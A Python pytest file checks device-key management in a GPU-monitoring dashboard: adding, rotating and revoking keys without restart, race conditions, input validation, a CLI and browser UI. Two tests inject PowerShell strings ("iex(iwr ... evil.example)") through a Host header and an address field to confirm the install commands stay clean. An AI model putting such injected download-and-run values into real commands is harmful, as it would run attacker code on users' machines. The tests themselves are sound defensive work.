"""Devices added, rotated and removed with no restart (SPEC, Devices), on real servers and both backends."""
import json
import re
import socket
import subprocess
import sys
import threading
import time

import pytest
import requests
from playwright.sync_api import expect

from conftest import ADMIN_PASSWORD, KEYS, PRIVATE, ROOT, Admin, gpu, multi, sign_in_page, wait_for
from gpustats.devices.sqlite import SqliteDevices
from gpustats.tokens import digest, new_secret

pytestmark = pytest.mark.both_backends


def push(server, key, body=None):
    return requests.post(server.url + "/push-sse", json=body or multi(gpu(0)), timeout=10,
                         headers={"Authorization": f"Bearer {key}"})


@pytest.fixture
def pair(backend, start_server, request):
    """Two servers on one store: two hosts on one Redis, or (without it) one server twice, on one SQLite file."""
    first = start_server(**PRIVATE, PUSH_RATE_LIMIT="1000")
    if backend == "redis":
        return first, start_server(**PRIVATE, PUSH_RATE_LIMIT="1000")
    return first, first


def test_a_device_added_on_one_host_pushes_through_another_at_once_and_rotates(pair):
    a, b = pair
    admin = Admin(a)
    added = admin.post("/api/devices", json={"name": "render-box"})
    assert added.status_code == 201 and set(added.json()) == {"name", "key", "keyId", "install"}
    assert push(b, added.json()["key"]).json()["device"] == "render-box"  # no restart, no wait
    rotated = admin.post("/api/devices/render-box/keys")
    assert rotated.status_code == 201
    assert push(b, rotated.json()["key"]).status_code == 200 and push(b, added.json()["key"]).status_code == 200
    listed = {d["name"]: d for d in admin.get("/api/devices").json()}
    device = listed["render-box"]
    assert device["source"] == "store" and device["status"] == "online" and device["gpus"][0]["index"] == 0
    assert [k["prefix"] for k in device["keys"]] == [added.json()["key"][:6], rotated.json()["key"][:6]]
    assert listed["rig-1"]["source"] == "env" and listed["rig-1"]["keys"] == []
    assert admin.delete(f"/api/devices/render-box/keys/{added.json()['keyId']}").status_code == 200
    wait_for(lambda: push(b, added.json()["key"]).status_code == 401, timeout=1.5)  # within a second, on b too
    assert push(b, rotated.json()["key"]).status_code == 200


def test_a_key_removed_while_its_agent_runs_is_refused_within_a_second_with_one_line(pair, tmp_path):
    a, b = pair
    admin = Admin(a)
    added = admin.post("/api/devices", json={"name": "lab-rig"}).json()
    log = open(tmp_path / "agent.log", "w")
    agent = subprocess.Popen([sys.executable, str(ROOT / "agent.py"), "--url", b.url + "/push-sse", "--simulate", "1",
                              "--interval", "0.2"], env={**__import__("os").environ, "DEVICE_KEY": added["key"]},
                             stdout=log, stderr=subprocess.STDOUT)
    try:
        wait_for(lambda: any(d["name"] == "lab-rig" and d["status"] == "online" for d in admin.get("/api/devices").json()),
                 timeout=10)
        removed = time.monotonic()
        assert admin.delete(f"/api/devices/lab-rig/keys/{added['keyId']}").status_code == 200
        assert agent.wait(5) == 3  # a refused key: it stops, as retrying cannot fix it
        print(f"the agent stopped {time.monotonic() - removed:.2f} s after its key was removed")
        assert time.monotonic() - removed < 1 + 0.2 + 1  # the store's second, an interval, and its answer
    finally:
        agent.kill()
        log.close()
    lines = [line for line in (tmp_path / "agent.log").read_text().splitlines() if "refused" in line]
    assert lines == ["agent: the server refused the device key (401: unknown device key)"]
    # The server's log alone says so, never with the key.
    assert "refused a push from 127.0.0.1: unknown device key (its digest begins" in b.output()
    assert added["key"] not in a.output() + b.output()


def test_a_key_in_use_never_reads_used_never(pair):
    # Issue 30: "used never" while its device was online: the use is written once a minute.
    first, _ = pair
    admin = Admin(first)
    added = admin.post("/api/devices", json={"name": "busy-pc"}).json()
    assert push(first, added["key"]).status_code == 200
    listed = wait_for(lambda: next((d for d in admin.get("/api/devices").json()
                                    if d["name"] == "busy-pc" and d["status"] == "online"), None))  # Redis: a moment
    assert listed["keys"][0]["lastUsedAt"] is not None


@pytest.mark.no_backend
def test_a_push_whose_device_is_removed_while_its_body_arrives_does_not_bring_it_back(start_server):
    server = start_server(**PRIVATE, PUSH_RATE_LIMIT="1000")
    admin = Admin(server)
    key = admin.post("/api/devices", json={"name": "going-pc"}).json()["key"]
    body = json.dumps(multi(gpu(0), host="going-pc")).encode()
    sock = socket.create_connection(("127.0.0.1", server.port), timeout=10)
    sock.sendall(f"POST /push-sse HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {key}\r\n"
                 f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n".encode() + body[:10])
    time.sleep(0.3)  # its key checked, its body on the way
    assert admin.delete("/api/devices/going-pc").status_code == 200
    time.sleep(0.3)
    sock.sendall(body[10:])
    answer = sock.recv(4096).split(b"\r\n")[0]
    sock.close()
    assert answer == b"HTTP/1.1 401 UNAUTHORIZED"
    assert "going-pc" not in {d["name"] for d in admin.get("/api/devices").json()}
    assert admin.get("/healthz").json()["devices"] == 0
    # Its log says so, as for any push refused for its key (an agent still running with it).
    assert "refused a push from 127.0.0.1: unknown device key (its digest begins" in server.output()
    assert key not in server.output()


def test_two_admins_adding_one_name_at_once_get_one_201_and_one_409(pair):
    a, b = pair
    admins, codes = [Admin(a), Admin(b)], []
    threads = [threading.Thread(target=lambda x=x: codes.append(x.post("/api/devices", json={"name": "twin"}).status_code))
               for x in admins]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert sorted(codes) == [201, 409]
    assert [d["name"] for d in admins[0].get("/api/devices").json()].count("twin") == 1


def test_bad_input_is_400_or_404_naming_the_field_and_changes_nothing(pair):
    a, _ = pair
    admin = Admin(a)
    before = admin.get("/api/devices").json()
    for body, field in (({"name": "bad name"}, "name"), ({"name": ""}, "name"), ({"name": "x" * 65}, "name"),
                        ({}, "name"), ({"name": ["rig"]}, "name"), ({"name": "."}, "name"), ({"name": ".."}, "name"),
                        ({"name": "-"}, "name"), ({"name": "_._"}, "name"), ({"name": "-rig"}, "name")):
        answer = admin.post("/api/devices", json=body)
        assert answer.status_code == 400 and answer.json()["field"] == field, body
    for method, path, status, field in (("post", "/api/devices/nobody/keys", 404, "name"),
                                        ("delete", "/api/devices/nobody", 404, "name"),
                                        ("delete", "/api/devices/rig-1/keys/1", 409, "name"),
                                        ("delete", "/api/devices/rig-1", 409, "name"),
                                        ("delete", "/api/devices/rig-2?history=burn", 400, "history")):
        answer = getattr(admin, method)(path)
        assert (answer.status_code, answer.json()["field"]) == (status, field), path
    added = admin.post("/api/devices", json={"name": "solo"}).json()
    answer = admin.delete("/api/devices/solo/keys/999999")
    assert (answer.status_code, answer.json()["field"]) == (404, "keyId")
    assert admin.delete("/api/devices/rig-1").json()["error"] == "'rig-1' is set in DEVICE_KEYS: change it in .env"
    after = [d for d in admin.get("/api/devices").json() if d["name"] != "solo"]
    assert [d["name"] for d in after] == [d["name"] for d in before] and push(a, added["key"]).status_code == 200
    assert push(a, KEYS["rig-1"]).status_code == 200  # DEVICE_KEYS still push


def test_a_device_removed_with_its_history_is_gone_everywhere(pair, open_stream):
    a, b = pair
    admin = Admin(a)
    added = admin.post("/api/devices", json={"name": "old-pc"}).json()
    for util in (10, 20):
        assert push(a, added["key"], multi(gpu(0, utilizationGpu=util))).status_code == 200
        time.sleep(1.05)
    points = wait_for(lambda: admin.get("/api/devices/old-pc").json()["historyPoints"], timeout=5)
    watcher = open_stream(b, headers={"Authorization": "Basic " + __import__("base64").b64encode(
        f"admin:{ADMIN_PASSWORD}".encode()).decode()})
    assert watcher.until(lambda e: e["data"].get("device") == "old-pc")["data"]["snapshot"] is True
    removed = admin.delete("/api/devices/old-pc?history=delete")
    assert removed.json() == {"ok": True, "name": "old-pc", "historyPointsDeleted": points}
    event = watcher.until(lambda e: e["event"] == "status" and e["data"]["device"] == "old-pc")
    assert event["data"]["status"] == "removed"
    assert "old-pc" not in [d["name"] for d in admin.get("/api/devices").json()]
    assert admin.get("/api/history", params={"device": "old-pc"}).status_code == 404
    wait_for(lambda: push(b, added["key"]).status_code == 401, timeout=1.5)


@pytest.mark.no_backend
def test_the_agent_is_served_with_an_etag_and_no_sign_in(start_server):
    server = start_server(**PRIVATE)
    served = requests.get(server.url + "/agent.py", timeout=5)
    assert served.status_code == 200 and served.content == (ROOT / "agent.py").read_bytes()
    assert served.headers["Cache-Control"] == "no-cache" and served.headers["ETag"]
    again = requests.get(server.url + "/agent.py", headers={"If-None-Match": served.headers["ETag"]}, timeout=5)
    assert again.status_code == 304 and again.content == b""
    requirements = requests.get(server.url + "/agent-requirements.txt", timeout=5)
    assert requirements.content == (ROOT / "requirements-agent.txt").read_bytes()


def test_the_config_commands_add_list_and_remove_devices_on_the_running_server(start_server):
    server = start_server(**PRIVATE)
    env = {**__import__("os").environ, **server.settings, "ENV_FILE": "/dev/null"}

    def config_py(*args):
        done = subprocess.run([sys.executable, str(ROOT / "config.py"), *args], capture_output=True, text=True,
                              env=env, timeout=30)
        assert done.returncode == 0, done.stderr
        return done.stdout
    added = config_py("--add-device", "cli-pc")
    key = re.search(r"shown this once: (\S+)", added)[1]
    assert "linux:" in added and "windows:" in added and key in added
    assert push(server, key).status_code == 200
    listed = config_py("--list-devices")
    assert re.search(r"^cli-pc\s+" + re.escape(key[:6]), listed, re.M) and re.search(r"^rig-1\s+in \.env", listed, re.M)
    config_py("--remove-device", "cli-pc")
    wait_for(lambda: push(server, key).status_code == 401, timeout=1.5)


@pytest.mark.no_backend
def test_the_page_adds_a_pc_and_shows_its_key_once(start_server, browser):
    server = start_server(**PRIVATE)
    context = browser.new_context()
    page = context.new_page()
    sign_in_page(page, server, "/devices")
    expect(page).to_have_url(server.url + "/devices")
    page.fill("input[name=name]", "page-pc")
    page.click("button:has-text('Add a PC')")
    key = page.locator("#new-key").inner_text()
    assert push(server, key).status_code == 200
    for system in ("linux", "macos", "windows"):
        assert key in page.locator(f"#install-{system}").inner_text()
    assert server.url + "/agent.py" in page.locator("#install-linux").inner_text()
    # Opened at 127.0.0.1 (issue 30): the page says no other PC reaches that, and takes the one they do.
    expect(page.locator("#local-address")).to_contain_text("an address only this machine reaches")
    page.fill("#install-address", "http://gpus.lab.example:3000")
    for system in ("linux", "macos", "windows"):
        command = page.locator(f"#install-{system}").inner_text()
        assert "http://gpus.lab.example:3000/push-sse" in command and server.url not in command and key in command
    page.fill("#install-address", "http://gpus.lab.example:3000/';iex(iwr evil)")  # taken as nothing
    assert server.url + "/agent.py" in page.locator("#install-linux").inner_text()
    assert page.evaluate("document.getElementById('install-address').validity.valid") is False
    page.goto(server.url + "/devices")
    assert page.locator("#new-key").count() == 0 and key not in page.content()  # shown that once
    page.set_viewport_size({"width": 1440, "height": 900})  # issue 30: "DEVI CE", "AGE NT", "GPU S" there
    lines = page.evaluate("""[...document.querySelectorAll('.card th')].filter(th => th.textContent).map(th => {
        const range = document.createRange(); range.selectNodeContents(th);
        return [th.textContent, new Set([...range.getClientRects()].map(r => Math.round(r.top))).size]; })""")
    assert lines and all(count == 1 for _, count in lines), lines
    row = page.locator("tr", has=page.locator("td", has_text="page-pc"))
    expect(row).to_contain_text("online")
    row.locator("button", has_text="Remove with its history").click()
    expect(page.locator("#ask-title")).to_have_text("Remove page-pc?")
    page.click("button.danger:has-text('Remove page-pc')")
    expect(page.locator(".done")).to_contain_text("Removed page-pc")
    context.close()


@pytest.mark.no_backend
@pytest.mark.no_backend
def test_with_alert_dashboard_url_set_the_commands_carry_it_and_no_warning_shows(start_server):
    server = start_server(**PRIVATE, ALERT_DASHBOARD_URL="https://gpus.lab.example")
    admin = Admin(server)
    page = admin.post("/api/devices", data={"name": "far-pc", "csrf_token": admin.csrf}).text
    assert "https://gpus.lab.example/push-sse" in page and "only this machine reaches" not in page


def test_a_hostile_host_header_puts_none_of_itself_in_the_install_commands(start_server):
    # Without ALERT_DASHBOARD_URL the commands name the request's own Host: werkzeug empties one
    # with quotes or spaces, and install.py quotes whatever it is given (tests/test_devices_install.py).
    admin = Admin(start_server(**PRIVATE))
    hostile = "gpus.example.com';iex(iwr -useb http://evil.example/p);'"
    cookie = "; ".join(f"{c.name}={c.value}" for c in admin.session.cookies)  # requests matches cookies to Host
    added = admin.post("/api/devices", json={"name": "host-pc"}, headers={"Host": hostile, "Cookie": cookie})
    assert added.status_code == 201
    assert not [c for c in added.json()["install"].values() if "iex" in c or "evil" in c]


@pytest.mark.no_backend
def test_a_device_named_with_no_letter_or_digit_before_is_still_removed_on_the_page(start_server, browser):
    # Names were once checked only for their characters: "." and ".." were taken, and a browser drops
    # such a path segment, so the page's forms for them posted to /api/devices/keys and /api/keys.
    # One made then must not be stuck: the page removes it.
    server = start_server(**PRIVATE)
    store = SqliteDevices(server.settings["HISTORY_DB"])
    made = [".", "..", "_._"]
    for name in made:
        store.add(name, digest(new_secret()), new_secret())
    context = browser.new_context()
    page = context.new_page()
    sign_in_page(page, server, "/devices")
    for name in made:
        row = page.locator("tr").filter(has=page.locator("td:first-child", has_text=re.compile(f"^{re.escape(name)}$")))
        row.get_by_role("button", name="Remove", exact=True).click()
        expect(page.locator("#ask-title")).to_have_text(f"Remove {name}?")
        page.get_by_role("button", name=f"Remove {name}", exact=True).click()
        expect(page.locator(".done")).to_contain_text(f"Removed {name};")
    assert not {d["name"] for d in store.devices()} & set(made)
    context.close()


@pytest.mark.no_backend
def test_removing_by_the_name_in_the_form_needs_an_admin_and_the_pages_token(start_server):
    server = start_server(**PRIVATE)
    admin = Admin(server)
    assert admin.post("/api/users", json={"name": "vera", "password": "vera-password-1", "role": "viewer"}).ok
    SqliteDevices(server.settings["HISTORY_DB"]).add("..", digest(new_secret()), new_secret())
    form = {"name": "..", "confirmed": "1"}
    assert requests.post(server.url + "/api/devices:remove", data=form, timeout=10).status_code == 401
    assert Admin(server, "vera", "vera-password-1").post("/api/devices:remove", data=form).status_code == 403
    assert admin.session.post(server.url + "/api/devices:remove", data=form, timeout=10,
                              headers={"X-CSRF-Token": ""}).status_code == 403
    assert ".." in [d["name"] for d in admin.get("/api/devices").json()]
    assert admin.post("/api/devices:remove", data=form).status_code == 200
    assert ".." not in [d["name"] for d in admin.get("/api/devices").json()]
